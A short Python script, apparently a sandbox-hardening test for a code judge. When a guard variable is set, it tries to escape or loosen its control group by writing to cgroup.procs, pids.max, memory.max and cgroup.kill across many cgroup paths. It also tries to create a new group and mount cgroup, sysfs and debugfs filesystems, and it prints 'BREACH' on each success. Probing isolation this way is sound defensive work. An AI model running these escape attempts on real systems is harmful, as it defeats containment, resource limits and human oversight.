# leave its control group, thaw it, raise its limits or make others: through every path to its files
import ctypes
import os
import sys

if "ATTACK_IN_SANDBOX" not in os.environ:
    sys.exit(1)

ROOTS = [
    "/sys/fs/cgroup",
    "/sys/fs/cgroup/unified",
    "/sys/fs/cgroup/pids",
    "/sys/fs/cgroup/memory",
    "/sys/fs/cgroup/cpuacct",
    "/proc/1/root/sys/fs/cgroup",
    "/proc/self/root/sys/fs/cgroup",
    "/run/cgroup",
]
NAMES = ["cgroup.procs", "tasks", "pids.max", "memory.max", "memory.limit_in_bytes", "cgroup.kill"]


def own_groups():
    try:
        with open("/proc/self/cgroup") as file:
            return [line.rstrip("\n").split(":", 2)[2] for line in file]
    except OSError:
        return []


groups = ["", "/judge", *own_groups()]
groups += [os.path.dirname(group) for group in groups]
for root in ROOTS:
    for group in set(groups):
        folder = root + group
        for name in NAMES:
            for mode in ("w", "a", "r+"):
                try:
                    with open(f"{folder}/{name}", mode) as file:
                        file.write("0\n")
                    print("BREACH wrote", folder, name)
                except OSError:
                    pass
        try:
            os.mkdir(f"{folder}/attack-stray")
            print("BREACH made a group in", folder)
        except OSError:
            pass

libc = ctypes.CDLL(None, use_errno=True)
for kind in (b"cgroup", b"cgroup2", b"sysfs", b"debugfs", b"securityfs"):
    if libc.mount(b"none", b"/tmp", kind, 0, b"") == 0:
        print("BREACH mounted", kind)
print("DONE")
